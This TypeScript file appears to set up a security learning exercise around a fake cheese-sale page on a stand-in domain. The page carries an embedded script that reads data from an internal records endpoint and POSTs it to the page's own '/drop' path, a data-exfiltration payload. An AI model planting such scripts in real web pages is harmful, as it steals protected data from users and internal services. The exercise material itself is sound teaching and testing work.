import { createLearnerSite } from '../shared/learner-site.ts';
import { RECORDS } from './names.ts';

export const MAX_PAGE_LENGTH = 6000;

const FIRST_PAGE = `<!doctype html>
<title>Cheese, lightly used</title>
<h1>Cheese for sale</h1>
<script>
fetch('${RECORDS}/v1/held')
  .then(answer => answer.text())
  .then(text => fetch('/drop', { method: 'POST', body: text }))
</script>`;

export const site = createLearnerSite({
  host: 'cheese.example',
  page: FIRST_PAGE,
  maxLetterLength: 2000,
  reserved: {
    domain: 'customs.example',
    message: 'customs.example and all its subdomains belong to the customs.',
  },
});
